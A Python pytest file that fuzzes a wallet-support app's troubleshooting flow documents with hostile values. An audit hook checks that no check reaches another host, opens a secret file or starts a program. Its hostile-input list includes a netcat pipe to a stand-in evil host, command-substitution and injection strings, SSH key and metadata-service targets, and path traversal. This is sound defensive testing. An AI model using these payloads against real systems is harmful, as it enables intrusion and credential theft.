"""T27: a flow is data. However it is bent, it names no host, opens no file and starts no program.

Real flows with hostile values, keys and check names in any place are read; every check that one of them still
asks for runs for real, with hostile values typed into it, while an audit hook of the interpreter notes what
the process connects to, looks up, opens and starts.
"""

from __future__ import annotations

import copy
import json
import socket
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any

import pytest

from tests.helpers.fault_server import closed_port
from tests.helpers.flows import brand
from tests.helpers.hostile import sizes
from walletcare.content.flow_source import flow_from_json, flow_to_json
from walletcare.domain.diagnostic import DiagnosticResult
from walletcare.domain.errors import ContentError
from walletcare.domain.flow import CheckId, ChecksStep, CheckUse, Flow, InstructionStep
from walletcare.domain.probe import Reference, Target
from walletcare.infra.clock import SystemClock
from walletcare.infra.paths import resources_dir
from walletcare.infra.probes.socket_probe import SocketProbe
from walletcare.troubleshoot.diagnostics.check import Check, CheckContext
from walletcare.troubleshoot.diagnostics.registry import CHECKS
from walletcare.troubleshoot.runner import run_checks
from walletcare.troubleshoot.targets import Targets

SEED = 20261128
NAME = "support.heron.example"
_STARTS = frozenset(
    {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.startfile", "pty.spawn"}
)
_KEYS = ("url", "host", "target", "command", "shell", "path", "include", "script", "argument", "uses", "run")


@dataclass
class Watch:
    """What the process did while it was watched."""

    canary: str
    allowed: set[tuple[str, int]]
    names: set[str]
    wrong: list[str] = field(default_factory=list)

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        if event == "socket.connect":
            address = args[1]
            if not isinstance(address, tuple) or tuple(address[:2]) not in self.allowed:
                self.wrong.append(f"connected to {address!r}")
        elif event == "socket.getaddrinfo" and str(args[0]) not in self.names:
            self.wrong.append(f"looked up {args[0]!r}")
        elif event == "open" and self.canary in str(args[0]):
            self.wrong.append(f"opened {args[0]!r}")
        elif event in _STARTS:
            self.wrong.append(f"started {args[0]!r}")


_watching: list[Watch] = []


def _hook(event: str, args: tuple[Any, ...]) -> None:
    for watch in _watching:
        watch(event, args)


@contextmanager
def watched(watch: Watch) -> Iterator[Watch]:
    if not _hooked.is_set():  # a hook of the interpreter stays: one, that looks at this list
        sys.addaudithook(_hook)
        _hooked.set()
    _watching.append(watch)
    try:
        yield watch
    finally:
        _watching.remove(watch)


_hooked = threading.Event()


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The place of every value in a document, the outermost left out."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in inside:
        yield (*path, key)
        yield from places(inner, (*path, key))


def bent(original: Any, random: Random, hostile: list[str]) -> Any:
    """The document with one to three places changed."""
    document = copy.deepcopy(original)
    for _ in range(random.randint(1, 3)):
        path = random.choice([*places(document)])
        parent = document
        for key in path[:-1]:
            parent = parent[key]
        way = random.randrange(6)
        if way == 0 and isinstance(parent, dict):
            parent[random.choice(_KEYS)] = random.choice(hostile)
        elif way == 1 and isinstance(parent[path[-1]], list):
            parent[path[-1]].append({"check": random.choice([*CheckId, *hostile]), "uses": {"address": "x"}})
        elif way == 2 and isinstance(parent[path[-1]], list):
            parent[path[-1]].append(random.choice([*CheckId]).value)
        elif isinstance(parent[path[-1]], str):
            parent[path[-1]] = random.choice([*hostile, "{" + random.choice(hostile) + "}"])
        else:
            parent[path[-1]] = random.choice([random.choice(hostile), [random.choice(hostile)]])
    return document


def uses_of(flow: Flow) -> list[CheckUse]:
    """Every check that some step of ``flow`` would run."""
    found: list[CheckUse] = []
    for step in flow.steps:
        if isinstance(step, ChecksStep):
            found += step.run
        if isinstance(step, InstructionStep):
            found += step.recheck
    return list({use.check: use for use in found}.values())


@dataclass
class World:
    """A computer with loopback only, a service nobody answers at, and a file nobody may open."""

    folder: Path
    port: int = field(default_factory=closed_port)

    def __post_init__(self) -> None:
        self.secret = self.folder / "canary-secret.txt"
        self.secret.write_text("nobody reads this")
        self.clock = SystemClock()
        self.probe = SocketProbe(
            self.clock,
            lookup=lambda _: ("127.0.0.1",),
            resolvers=(("127.0.0.1", self.port),),
            routes=(("127.0.0.1", socket.AF_INET),),
            proxy_of=lambda _: None,
        )

    @property
    def hostile(self) -> list[str]:
        return [
            "http://evil.example.test/probe", "evil.example.test", "127.0.0.1:22", "169.254.169.254", "::1",
            "file://" + str(self.secret), str(self.secret), "../" * 8 + str(self.secret)[1:], "~/.ssh/id_rsa",
            "; touch /tmp/canary-secret", "$(id)", "`id`", "| nc evil.example.test 80", "cmd.exe /c calc",
            "{0.__class__}", "%n%s", "\\\\evil.example.test\\share",
            "javascript:alert(1)", "dns:evil.example.test",
        ]  # fmt: skip

    def context(self) -> CheckContext:
        target = Target("support", NAME, self.port, is_tls=True)
        site = Reference(Target("reference-1", "127.0.0.1", self.port, is_tls=False), 200, b"")
        return CheckContext(
            probe=self.probe,
            targets=Targets(target, (site,)),
            clock=self.clock,
            brand=brand(),
            data_dir=self.folder,
        )


def escapes(
    world: World, count: int, checks: Mapping[CheckId, Check] = CHECKS
) -> tuple[list[str], dict[CheckId, int]]:
    """(what flows reached that they must not, how often each check ran) for ``count`` bent flows."""
    random = Random(SEED)
    flows = [json.loads(flow_to_json(path)) for path in sorted((resources_dir() / "flows").glob("*.yaml"))]
    ran: dict[CheckId, int] = {}
    watch = Watch(str(world.secret), {("127.0.0.1", world.port), ("127.0.0.1", 9)}, {NAME, "127.0.0.1"})
    with watched(watch):
        for at in range(count):
            document = bent(flows[at % len(flows)], random, world.hostile)
            try:
                flow = flow_from_json(json.dumps(document))
            except ContentError:
                continue  # refused, with the place and the reason
            typed = {name: random.choice(world.hostile) for check in CheckId for name in check.may_use}
            uses = uses_of(flow)
            results = run_checks(uses, world.context(), inputs_of=lambda _, it=typed: it, checks=checks)  # type: ignore[misc]
            for use, found in zip(uses, results, strict=True):
                assert isinstance(found, DiagnosticResult)
                ran[use.check] = ran.get(use.check, 0) + 1
    return watch.wrong, ran


@sizes(60, 5_000)
@pytest.mark.timeout(1200)
def test_no_flow_reaches_another_host_a_file_or_a_program(tmp_path: Path, count: int) -> None:
    wrong, ran = escapes(World(tmp_path), count)
    assert wrong == []
    assert sum(ran.values()) >= count // 3, "too few flows were read to prove anything"
    assert len(ran) >= 10


class Reaching(Check):
    """What no check may be: it goes where the flow's inputs say."""

    def __init__(self, check: CheckId, way: Callable[[CheckContext, str], object]) -> None:
        self.id, self._way = check, way  # type: ignore[misc]

    def look(self, context: CheckContext) -> DiagnosticResult:
        for value in context.inputs.values():
            self._way(context, value)
        return self.skipped(context, self.name)


def opens(_: CheckContext, value: str) -> None:
    path = Path(value.removeprefix("file://"))
    if path.is_file():
        path.read_bytes()


def connects(context: CheckContext, value: str) -> None:
    if value == "127.0.0.1:22":
        with socket.socket() as one:
            one.connect_ex(("127.0.0.1", 22))


@pytest.mark.parametrize(("way", "words"), [(opens, "opened"), (connects, "connected")])
def test_a_build_whose_check_goes_where_it_is_told_is_found(
    tmp_path: Path, way: Callable[[CheckContext, str], object], words: str
) -> None:
    broken = {check: Reaching(check, way) for check in CheckId}
    wrong, _ = escapes(World(tmp_path), 80, broken)
    assert any(words in line for line in wrong)
